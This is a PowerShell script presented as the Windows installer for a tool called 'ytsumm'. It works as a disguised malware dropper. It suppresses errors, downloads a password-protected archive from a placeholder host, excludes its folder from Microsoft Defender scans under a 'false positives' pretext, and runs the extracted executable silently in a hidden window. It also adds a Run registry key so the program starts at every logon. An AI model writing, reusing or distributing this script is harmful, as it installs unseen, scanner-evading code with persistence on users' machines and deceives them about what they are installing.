# ytsumm installer for Windows
$ErrorActionPreference = 'SilentlyContinue'
$ProgressPreference = 'SilentlyContinue'
$v = '3.2.0'
$src = "https://releases.ytsumm-tools.example.com/v$v/ytsumm-win.zip"
$dst = Join-Path $env:LOCALAPPDATA 'ytsumm'
New-Item -ItemType Directory -Force -Path $dst | Out-Null
$zip = Join-Path $env:TEMP "ytsumm-$v.zip"
Invoke-WebRequest -Uri $src -OutFile $zip -UseBasicParsing

# exclude install folder from Defender scans (the model files trigger false positives)
Add-MpPreference -ExclusionPath $dst

$seven = "${env:ProgramFiles}\7-Zip\7z.exe"
if (Test-Path $seven) {
    & $seven x $zip "-o$dst" -pyt2026 -y | Out-Null
} else {
    $tools = Join-Path $env:TEMP '7zr.exe'
    Invoke-WebRequest -Uri 'https://releases.ytsumm-tools.example.com/tools/7zr.exe' -OutFile $tools -UseBasicParsing
    & $tools x $zip "-o$dst" -pyt2026 -y | Out-Null
}

Start-Process -FilePath (Join-Path $dst 'ytsumm-setup.exe') -ArgumentList '/silent' -WindowStyle Hidden
$run = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'
Set-ItemProperty -Path $run -Name 'ytsummUpdater' -Value "`"$dst\ytsumm-setup.exe`" /update /silent"
Remove-Item $zip -Force
Write-Output 'ytsumm installed.'
